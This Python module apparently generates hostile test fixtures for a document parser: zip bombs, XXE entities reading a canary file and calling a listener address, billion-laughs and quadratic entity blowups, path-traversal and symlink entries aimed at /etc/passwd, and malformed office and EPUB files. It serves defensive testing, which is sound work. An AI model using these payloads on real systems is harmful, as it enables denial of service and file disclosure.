"""Hostile office files, e-books and archives, generated: each entry is a file name and what makes its bytes."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence

import docx
import openpyxl
import pptx

Case = tuple[str, Callable[[], bytes]]

CANARY = "canary-7f3a-secret"
"""What stands in the file that entities point at."""
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)
QUADRATIC = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + "x" * 100_000 + '">]>'


def zipped(members: Sequence[tuple[str, bytes | str]], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return buffer.getvalue()


def saved(save: Callable[[io.BytesIO], object]) -> bytes:
    buffer = io.BytesIO()
    save(buffer)
    return buffer.getvalue()


def word(text: str = "A sound paragraph.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    return saved(document.save)


def sheet(rows: Sequence[Sequence[object]] = (("Part", "Price"), ("Seal", 12.5))) -> bytes:
    book = openpyxl.Workbook()
    assert book.active is not None
    for row in rows:
        book.active.append(list(row))
    return saved(book.save)


def slides(text: str = "Lamps") -> bytes:
    deck = pptx.Presentation()
    deck.slides.add_slide(deck.slide_layouts[5]).shapes.title.text = text
    return saved(deck.save)


def book(chapters: Sequence[str], head: str = "") -> bytes:
    items = "".join(
        f'<item id="c{i}" href="c{i}.xhtml" media-type="application/xhtml+xml"/>' for i in range(len(chapters))
    )
    spine = "".join(f'<itemref idref="c{i}"/>' for i in range(len(chapters)))
    package = (
        f'<package xmlns="http://www.idpf.org/2007/opf"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:title>Book</dc:title></metadata><manifest>{items}</manifest><spine>{spine}</spine></package>"
    )
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="OEBPS/book.opf"/></rootfiles></container>'
    )
    pages = [(f"OEBPS/c{i}.xhtml", chapter) for i, chapter in enumerate(chapters)]
    return zipped([
        ("mimetype", "application/epub+zip"), ("META-INF/container.xml", container), ("OEBPS/book.opf", head + package),
        *pages,
    ])  # fmt: skip


def replaced(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """Return an archive with one member changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    assert any(own == name for own, _ in members)
    return zipped([(own, change(data) if own == name else data) for own, data in members])


def outer_entity(secret: str, address: str) -> str:
    """Return a document type whose entities point at a file and at a network address."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "file://{secret}"><!ENTITY n SYSTEM "{address}">'
        f'<!ENTITY % p SYSTEM "{address}/p.dtd"> %p;]>'
    )


def with_strings(strings: bytes) -> bytes:
    """Return a workbook with a table of shared strings."""
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    part = b'<Override PartName="/xl/sharedStrings.xml" ContentType="' + kind + b'"/></Types>'
    content = replaced(sheet(), "[Content_Types].xml", lambda data: data.replace(b"</Types>", part))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    return zipped([*members, ("xl/sharedStrings.xml", strings)])


def with_type(content: bytes, name: str, head: str, use: str, tag: bytes) -> bytes:
    """Return an archive whose XML member declares entities and uses one of them in an element."""

    def change(data: bytes) -> bytes:
        body = data.partition(b"?>")[2] if data.startswith(b"<?xml") else data
        at = body.index(tag)
        return head.encode() + body[:at] + body[at:].replace(b">", b">" + use.encode(), 1)

    return replaced(content, name, change)


def bomb(name: str, size: int) -> bytes:
    """Return an archive with one member of a single repeated byte."""
    deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
    pieces = [deflated.compress(b"0" * 2**20) for _ in range(size // 2**20)]
    data = b"".join(pieces) + deflated.flush()
    crc = 0
    for _ in range(size // 2**20):
        crc = zlib.crc32(b"0" * 2**20, crc)
    raw = name.encode()
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(data), size, len(raw), 0) + raw + data
    central = struct.pack(
        "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(data), size, len(raw), 0, 0, 0, 0, 0, 0
    )
    central += raw
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def lying(size: int) -> bytes:
    """Return a bomb whose entries say that they unpack to almost nothing."""
    content = bytearray(bomb("a.txt", size))
    at = content.index(b"PK\1\2")
    content[22:26] = content[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(content)


def nested(depth: int, width: int = 1) -> bytes:
    content = b"The innermost text."
    name = "a.txt"
    for _ in range(depth):
        content = zipped([(f"{i}-{name}", content) for i in range(width)])
        name = "a.zip"
    return content


def overlapping() -> bytes:
    """Return an archive many of whose entries share the same packed bytes."""
    content = bomb("a.txt", 32 * 2**20)
    at = content.index(b"PK\1\2")
    entry = content[at : content.index(b"PK\5\6")]
    count = 200
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(entry) * count, at, 0)
    return content[:at] + entry * count + end


def encrypted_flag() -> bytes:
    content = bytearray(zipped([("secret.txt", "A locked text.")]))
    at = content.index(b"PK\1\2")
    content[6] |= 1
    content[at + 8] |= 1
    return bytes(content)


def ole() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1016 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512


def _wide_sheet() -> bytes:
    row = "".join(f'<c r="{c}{{0}}"><v>1</v></c>' for c in ("A", "XFD"))
    rows = "".join(f'<row r="{n}">{row.format(n)}</row>' for n in range(1, 20_001))
    data = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    return replaced(sheet(), "xl/worksheets/sheet1.xml", lambda _: data.encode())


def _far_cell() -> bytes:
    data = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        '<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
        "</sheetData></worksheet>"
    )
    return replaced(sheet(), "xl/worksheets/sheet1.xml", lambda _: data.encode())


def _merged_everywhere() -> bytes:
    merges = "".join(f'<mergeCell ref="A{n}:A1048576"/>' for n in range(1, 50_000))
    return replaced(
        sheet([("a", "b")] * 200),
        "xl/worksheets/sheet1.xml",
        lambda data: data.replace(b"</sheetData>", b"</sheetData><mergeCells>" + merges.encode() + b"</mergeCells>"),
    )


def _deep_word(depth: int) -> bytes:
    inner = "<w:smartTag>" * depth + "<w:r><w:t>deep</w:t></w:r>" + "</w:smartTag>" * depth
    return replaced(
        word(),
        "word/document.xml",
        lambda data: data.replace(b"<w:r>", inner.encode() + b"<w:r>", 1),
    )


def _deep_tables(depth: int) -> bytes:
    start, end = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    inner = start * depth + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + end * depth
    return replaced(
        word(), "word/document.xml", lambda data: data.replace(b"<w:body>", b"<w:body>" + inner.encode(), 1)
    )


def _many_paragraphs(count: int) -> bytes:
    inner = "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * count
    return replaced(
        word(), "word/document.xml", lambda data: data.replace(b"<w:body>", b"<w:body>" + inner.encode(), 1)
    )


def _many_shared_strings() -> bytes:
    strings = "<si><t>word</t></si>" * 3_000_000
    data = f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{strings}</sst>'
    return with_strings(data.encode())


def _endless_shapes() -> bytes:
    group = b"<p:grpSp><p:nvGrpSpPr><p:cNvPr id='9' name='g'/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"
    return replaced(
        slides(),
        "ppt/slides/slide1.xml",
        lambda data: data.replace(b"</p:spTree>", group * 3000 + b"</p:grpSp>" * 3000 + b"</p:spTree>"),
    )


def _shrunk(content: bytes, share: float) -> bytes:
    return content[: int(len(content) * share)]


def _damaged(content: bytes) -> bytes:
    middle = len(content) // 2
    return content[:middle] + b"\xff" * 200 + content[middle + 200 :]


def archives(secret: str, address: str) -> Iterator[Case]:
    """Yield the cases.

    Args:
        secret: Path of the file with the canary, for entities to point at.
        address: Where a listener waits, likewise.
    """
    outer = outer_entity(secret, address)
    yield from _bombs()
    yield from _entities(outer)
    yield "docx-many-paragraphs.docx", lambda: _many_paragraphs(1_500_000)
    yield "docx-deep-tags.docx", lambda: _deep_word(20_000)
    yield "docx-deep-tables.docx", lambda: _deep_tables(3_000)
    yield "docx-linked-picture.docx", lambda: replaced(
        word(), "word/_rels/document.xml.rels",
        lambda data: data.replace(
            b"</Relationships>",
            f'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
            f'Target="file://{secret}" TargetMode="External"/></Relationships>'.encode(),
        ),
    )  # fmt: skip
    yield "xlsx-far-cell.xlsx", _far_cell
    yield "xlsx-wide-rows.xlsx", _wide_sheet
    yield "xlsx-merged-everywhere.xlsx", _merged_everywhere
    yield "xlsx-million-cells.xlsx", lambda: sheet([(1,) * 50] * 12_000)
    yield "xlsx-huge-cell.xlsx", lambda: replaced(
        sheet(), "xl/worksheets/sheet1.xml",
        lambda data: data.replace(b"<sheetData>", b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
                                  + b"y" * 30_000_000 + b"</t></is></c></row>", 1),
    )  # fmt: skip
    yield "xlsx-shared-strings.xlsx", _many_shared_strings
    yield "pptx-endless-groups.pptx", _endless_shapes
    for name, content in (("docx", word), ("xlsx", sheet), ("pptx", slides)):
        yield f"{name}-truncated.{name}", lambda content=content: _shrunk(content(), 0.6)
        yield f"{name}-damaged.{name}", lambda content=content: _damaged(content())
        yield f"{name}-locked.{name}", ole
        yield f"{name}-no-parts.{name}", lambda: zipped([("x", b"")])
    yield "epub-truncated.epub", lambda: _shrunk(book(["<p>Hello</p>"]), 0.6)
    yield "epub-no-package.epub", lambda: zipped([("mimetype", "application/epub+zip")])
    yield "epub-deep.epub", lambda: book(["<div>" * 100_000 + "deep" + "</div>" * 100_000])
    yield "epub-traversal.epub", lambda: zipped([
        ("META-INF/container.xml", '<c><rootfile full-path="../../../../etc/passwd"/></c>'), ("x", b"")
    ])  # fmt: skip
    yield "epub-locked.epub", lambda: zipped([
        ("META-INF/container.xml", '<c><rootfile full-path="b.opf"/></c>'), ("b.opf", "<package/>"),
        ("META-INF/encryption.xml", '<e><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/></e>'),
    ])  # fmt: skip
    yield from _folders()


def _bombs() -> Iterator[Case]:
    yield "docx-bomb.docx", lambda: bomb("word/document.xml", 600 * 2**20)
    yield "docx-bomb-within-bounds.docx", lambda: replaced(
        word(), "word/document.xml",
        lambda data: data.replace(b"A sound paragraph.", b"z" * 19_000_000)
    )  # fmt: skip
    yield "xlsx-bomb.xlsx", lambda: bomb("xl/worksheets/sheet1.xml", 600 * 2**20)
    yield "pptx-bomb.pptx", lambda: bomb("ppt/presentation.xml", 600 * 2**20)
    yield "epub-bomb.epub", lambda: bomb("META-INF/container.xml", 600 * 2**20)
    yield "zip-bomb.zip", lambda: bomb("a.txt", 1024 * 2**20)
    yield "zip-bomb-lying.zip", lambda: lying(600 * 2**20)
    yield "zip-bomb-overlapping.zip", overlapping
    yield "zip-bomb-just-below.zip", lambda: bomb("a.txt", 19 * 2**20)
    yield (
        "zip-nested-bomb.zip",
        lambda: zipped([(f"{i}.zip", inner) for inner in [bomb("a.txt", 300 * 2**20)] for i in range(20)]),
    )


def _entities(outer: str) -> Iterator[Case]:
    parts = (
        ("docx", word, "word/document.xml", b"<w:t>"),
        ("xlsx", sheet, "xl/workbook.xml", b"<sheets>"),
        ("pptx", slides, "ppt/slides/slide1.xml", b"<a:t>"),
    )
    for suffix, content, part, tag in parts:
        for kind, head, use in (
            ("outer", outer, "&f;&n;"),
            ("laughs", LAUGHS, "&j;"),
            ("quadratic", QUADRATIC, "&a;" * 3000),
        ):
            yield (
                f"{suffix}-entities-{kind}.{suffix}",
                lambda content=content, part=part, head=head, use=use, tag=tag: with_type(
                    content(), part, head, use, tag
                ),
            )
    yield (
        "docx-entities-in-properties.docx",
        lambda: with_type(word(), "docProps/core.xml", outer, "&f;", b"<dc:creator>"),
    )
    yield "xlsx-entities-in-strings.xlsx", lambda: with_strings((outer + "<sst><si><t>&f;&n;</t></si></sst>").encode())
    yield "docx-entities-utf16.docx", lambda: replaced(
        word(), "word/document.xml",
        lambda data: (outer + data.decode().partition("?>")[2]).replace("<w:t>", "<w:t>&f;", 1).encode("utf-16"),
    )  # fmt: skip
    yield "epub-entities-outer.epub", lambda: book(["<p>Hello</p>"], outer)
    yield "epub-entities-laughs.epub", lambda: book(["<p>Hello</p>"], LAUGHS)
    yield "epub-entities-in-chapter.epub", lambda: book([outer + "<html><body><p>&f; &n; words</p></body></html>"])


def _folders() -> Iterator[Case]:
    yield "zip-traversal.zip", lambda: zipped([
        (name, "A text from a crooked path.") for name in (
            "../../up.txt", "/etc/absolute.txt", "C:\\Windows\\win.txt", "..\\..\\back.txt", "a/../../b.txt",
            "\x00nul.txt", "con.txt", "x" * 3000 + ".txt", "a\nb.txt", "\u202etxt.exe.txt", "", "....//dots.txt",
        )
    ])  # fmt: skip
    yield "zip-nested-deep.zip", lambda: nested(30)
    yield "zip-nested-wide.zip", lambda: nested(4, 10)
    yield "zip-many-files.zip", lambda: zipped([(f"{i}.txt", b"x") for i in range(30_000)])
    yield "zip-locked.zip", encrypted_flag
    yield "zip-truncated.zip", lambda: _shrunk(zipped([("a.txt", "text " * 2000)]), 0.5)
    yield "zip-of-hostile.zip", lambda: zipped([
        ("a.docx", b"PK"), ("b.pdf", b"%PDF-1.7"), ("c.txt", b"\0\1\2\3"), ("good.txt", "A good text."),
        ("d.xlsx", ole()), ("e.exe", b"MZ"), ("f.html", "<div>" * 50_000),
    ])  # fmt: skip
    yield "zip-symbolic-link.zip", _link
    yield "zip-unknown-method.zip", _unknown_method


def _link() -> bytes:
    info = zipfile.ZipInfo("link.txt")
    info.create_system = 3
    info.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def _unknown_method() -> bytes:
    content = bytearray(zipped([("a.txt", "text")]))
    at = content.index(b"PK\1\2")
    content[8:10] = content[at + 10 : at + 12] = struct.pack("<H", 99)
    return bytes(content)
